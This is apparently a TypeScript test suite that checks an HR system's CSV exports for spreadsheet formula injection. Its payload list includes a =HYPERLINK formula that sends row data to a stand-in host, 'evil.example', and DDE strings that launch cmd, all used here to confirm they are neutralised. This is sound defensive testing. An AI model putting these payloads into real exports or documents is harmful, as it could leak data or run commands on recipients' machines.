import { act, submitApplication, type Application } from '../../src/domain/applications/application';
import type { Audience } from '../../src/domain/broadcast/audience';
import { EMPTY_PROGRESS, type Broadcast } from '../../src/domain/broadcast/broadcast';
import type { Delivery } from '../../src/domain/broadcast/delivery';
import type { Employee } from '../../src/domain/roster/employee';
import { CSV_BOM, csvLine } from '../../src/exporting/csv';
import type { CsvSource } from '../../src/exporting/csvSource';
import { applicationsCsv } from '../../src/features/exports/applicationsCsv';
import { assessmentSummariesCsv } from '../../src/features/exports/assessmentSummariesCsv';
import { broadcastReportCsv } from '../../src/features/exports/broadcastReportCsv';
import { broadcastsCsv } from '../../src/features/exports/broadcastsCsv';
import { parseCsv } from '../../src/importing/csv';
import type { AssessmentSummary } from '../../src/storage/assessmentSummaryRepository';
import { loadKitakyushu } from '../unit/realFramework';

// Formula injection through HR's CSV exports. Names, departments and grades come from IT's roster, comments and titles
// are typed by people, track and skill names by whoever imports the framework; HR opens the files in Excel, where a
// cell starting with = + - @ (or their full-width forms a Japanese IME types, or a tab or CR that import drops) runs
// as a formula: =HYPERLINK can send the row to an attacker's server with one click. Each export is built by its real
// source from pages of rows (storage itself is not the subject here), then read back as a CSV reader reads it.
// What must hold for every cell of every column: it starts with the apostrophe Excel hides, or it cannot start a
// formula; and what people typed is still all there.

const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A2,"詳細")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("https://evil.example")',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];

const framework = loadKitakyushu();
const now = new Date('2026-06-10T03:00:00.000Z');

/** The file a source writes, as the preparer writes it: BOM, header, then every page's rows. */
async function fileOf(source: CsvSource): Promise<string> {
  let text = CSV_BOM + csvLine(source.headers);
  for await (const page of source.pages()) text += page.map(csvLine).join('');
  return text;
}

/** The file read back as a CSV reader (and Excel) reads it: one object per row, cells by header. */
async function rowsOf(source: CsvSource): Promise<Record<string, string>[]> {
  const [header, ...records] = parseCsv(await fileOf(source)).map((record) => record.fields);
  expect(records.every((fields) => fields.length === header!.length)).toBe(true);
  return records.map((fields) => Object.fromEntries(header!.map((name, i) => [name, fields[i]!])));
}

/** Every cell that could start a formula in Excel, by column: what must be empty. */
function formulas(rows: readonly Record<string, string>[]): string[] {
  return rows.flatMap((row) => Object.entries(row).filter(([, cell]) => !cell.startsWith("'") && FORMULA_START.test(cell)).map(([column, cell]) => `${column}: ${cell}`));
}

/** The columns of `rows` that lost what was typed into them (a trim may take a leading tab or CR, nothing else). */
function lost(rows: readonly Record<string, string>[], columns: readonly string[], payload: string): string[] {
  return rows.flatMap((row) => columns.filter((column) => !row[column]!.includes(payload.trim())));
}

/** Someone on the roster whose every text is the payload. */
function employee(payload: string, aadObjectId: string): Employee {
  return { employeeNo: payload, name: payload, email: 'e@example.city.jp', aadObjectId, department: payload, section: payload, grade: payload, roles: [] };
}

/** Applications whose every text is the payload: one waiting, one rejected with the payload as the comment. */
function applications(payload: string): Application[] {
  const applicant = employee(payload, 'aaaaaaaa-0000-4000-8000-000000000001');
  const submitted = submitApplication(
    {
      frameworkId: framework.id,
      fiscalYear: 2026,
      // A track the framework does not name is shown by its id.
      track: payload,
      applicant: { aadObjectId: applicant.aadObjectId, name: payload, employeeNo: payload, department: payload, grade: payload },
      approver: { aadObjectId: 'aaaaaaaa-0000-4000-8000-000000000002', name: payload },
      motivation: payload,
    },
    now,
  );
  const rejected = act(submitted, { aadObjectId: 'aaaaaaaa-0000-4000-8000-000000000002', name: payload, isHr: false }, 'reject', now, payload);
  if (!rejected.ok) throw new Error(rejected.refusal);
  return [submitted, rejected.application];
}

/** A finished broadcast with the payload as its title, its author's name and, where the audience has any, its names. */
function broadcast(payload: string, audience: Audience): Broadcast {
  return {
    id: '8219676000000-0000000b',
    frameworkId: framework.id,
    state: 'completed',
    notice: { title: payload, body: payload, apply: [], fiscalYear: 2026 },
    audience,
    createdBy: { aadObjectId: 'aaaaaaaa-0000-4000-8000-000000000003', name: payload },
    createdAt: now.toISOString(),
    startedAt: now.toISOString(),
    finishedAt: now.toISOString(),
    round: 1,
    preparedRound: 1,
    progress: { ...EMPTY_PROGRESS, total: 2, sent: 1, failed: 1, failureReasons: { blocked: 1 } },
  };
}

function delivery(payload: string, fields: Partial<Delivery>): Delivery {
  return {
    broadcastId: '8219676000000-0000000b',
    aadObjectId: 'aaaaaaaa-0000-4000-8000-000000000004',
    employeeNo: payload,
    name: payload,
    department: payload,
    state: 'sent',
    attempts: 1,
    round: 1,
    possibleDuplicate: false,
    ...fields,
  };
}

/** Pages from memory, shaped as the repositories give them. */
async function* pagesOf<T>(rows: readonly T[]): AsyncIterable<T[]> {
  await Promise.resolve();
  yield [...rows];
}

describe.each(PAYLOADS.map((p) => [JSON.stringify(p), p] as const))('a CSV export of text starting %s', (_shown, payload) => {
  it('neutralises it in every column of the applications', async () => {
    const apps = applications(payload);
    const source = applicationsCsv({ countYear: () => Promise.resolve(apps.length), pagesOfYear: () => pagesOf(apps) }, framework, 2026, now);
    const rows = await rowsOf(source);

    expect(rows).toHaveLength(2);
    expect(formulas(rows)).toEqual([]);
    expect(lost(rows, ['職員番号', '氏名', '所属', '職位', '区分', '承認者'], payload)).toEqual([]);
    expect(lost(rows.slice(1), ['判断した人', 'コメント'], payload)).toEqual([]);
  });

  it('neutralises it in every column of the assessment summaries', async () => {
    const summary: AssessmentSummary = {
      frameworkId: framework.id,
      aadObjectId: 'aaaaaaaa-0000-4000-8000-000000000001',
      assessmentId: '8219676000000-0000000a',
      completedAt: now.toISOString(),
      overallRoleLevel: 2,
      skillLevel: 1,
      target: 3,
      rolePositions: {},
      // A skill the framework no longer names is listed by its id.
      gapSkillIds: [payload, 'rs01'],
    };
    const roster = { listEmployees: () => Promise.resolve([employee(payload, summary.aadObjectId)]) };
    const source = assessmentSummariesCsv({ summaries: { count: () => Promise.resolve(1), pages: () => pagesOf([summary]) }, roster }, framework, now);
    const rows = await rowsOf(source);

    expect(rows).toHaveLength(1);
    expect(formulas(rows)).toEqual([]);
    expect(lost(rows, ['職員番号', '氏名', '所属', '係', '職位', '不足スキル'], payload)).toEqual([]);
  });

  it('neutralises it in every column of the broadcasts, whatever the audience', async () => {
    const audiences: Audience[] = [
      { kind: 'everyone' },
      { kind: 'departments', departments: [payload, '建設局'] },
      { kind: 'grades', grades: [payload] },
      { kind: 'notApplied', fiscalYear: 2026 },
    ];
    const all = audiences.map((audience) => broadcast(payload, audience));
    const rows = await rowsOf(broadcastsCsv({ count: () => Promise.resolve(all.length), pages: () => pagesOf(all) }, framework.id, now));

    expect(rows).toHaveLength(audiences.length);
    expect(formulas(rows)).toEqual([]);
    expect(lost(rows, ['タイトル', '作成者'], payload)).toEqual([]);
    expect(lost(rows.slice(1, 3), ['対象'], payload)).toEqual([]);
  });

  it("neutralises it in every column of a broadcast's report", async () => {
    const deliveries = [delivery(payload, { sentAt: now.toISOString() }), delivery(payload, { state: 'failed', reason: 'blocked', possibleDuplicate: true })];
    const rows = await rowsOf(broadcastReportCsv({ pages: () => pagesOf(deliveries) }, broadcast(payload, { kind: 'everyone' }), now));

    expect(rows).toHaveLength(2);
    expect(formulas(rows)).toEqual([]);
    expect(lost(rows, ['職員番号', '氏名', '所属'], payload)).toEqual([]);
  });
});

describe('the check itself', () => {
  it('sees every cell that would start a formula, and passes the neutralised and the harmless', () => {
    const rows = [{ 氏名: '=1+1', 所属: '\t=1+1', 係: '＠SUM(1)', 職位: "'=1+1", 備考: '主事 =1+1' }];
    expect(formulas(rows)).toEqual(['氏名: =1+1', '所属: \t=1+1', '係: ＠SUM(1)']);
  });
});
